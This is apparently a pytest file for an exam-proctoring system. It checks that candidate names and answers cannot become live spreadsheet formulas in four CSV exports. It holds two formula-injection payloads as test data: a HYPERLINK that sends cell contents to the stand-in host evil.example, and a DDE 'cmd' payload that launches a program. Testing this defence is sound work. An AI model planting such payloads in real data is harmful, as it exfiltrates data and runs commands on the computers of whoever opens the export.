"""Issue 21 item 7: what candidates and staff type cannot become a spreadsheet formula in
any CSV export (results, answers, verdicts, the exam-room record)."""

from __future__ import annotations

import csv
import io

import pytest

from proctor.csvsafe import FORMULA_STARTS
from proctor.store.tables import Candidate
from tests.flowkit import ADMIN, REVIEWER, FlowApp

pytestmark = pytest.mark.asyncio(loop_scope="module")

EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
EVIL_ANSWER = "@SUM(1+1)*cmd|' /C calc'!A0"


def _cells(resp) -> list[str]:
    assert resp.status_code == 200, resp.text
    text = resp.content.decode("utf-8-sig")
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


async def test_no_export_cell_starts_a_formula(fa: FlowApp) -> None:
    s = await fa.sitting(kind="formal", paper="with_short")
    c = s.candidates[0]
    async with fa.rt.db.transaction() as db:
        (await db.get(Candidate, c.id)).name = EVIL_NAME
    cand = await fa.login(s.password, c.id_number)
    await fa.walk(cand, "answering")
    paper = await cand.ok("get", "/api/flow/paper")
    short = next(q for q in paper["questions"] if q["type"] == "short")
    await cand.ok("put", f"/api/flow/answers/{short['id']}", json={"value": EVIL_ANSWER, "seq": 1})
    first = paper["questions"][0]
    await cand.ok("put", f"/api/flow/answers/{first['id']}", json={"value": "A", "seq": 2})

    admin = await fa.staff(ADMIN)
    reviewer = await fa.staff(REVIEWER)
    exports = {
        "results.csv": _cells(await admin.get(f"/api/admin/sittings/{s.id}/results.csv")),
        "answers.csv": _cells(await admin.get(f"/api/admin/sittings/{s.id}/answers.csv")),
        "record.csv": _cells(
            await admin.get(f"/api/console/sittings/{s.id}/record.csv", params={"draft": 1})
        ),
        "verdicts.csv": _cells(
            await reviewer.get(f"/api/review/sittings/{s.id}/export/verdicts.csv")
        ),
    }
    for name, cells in exports.items():
        formulas = [x for x in cells if x.startswith(FORMULA_STARTS)]
        assert formulas == [], f"{name}: {formulas}"
        # the text itself is kept, shown as text
        if name != "answers.csv":
            assert "'" + EVIL_NAME in cells, name
    assert "'" + EVIL_ANSWER in exports["answers.csv"]
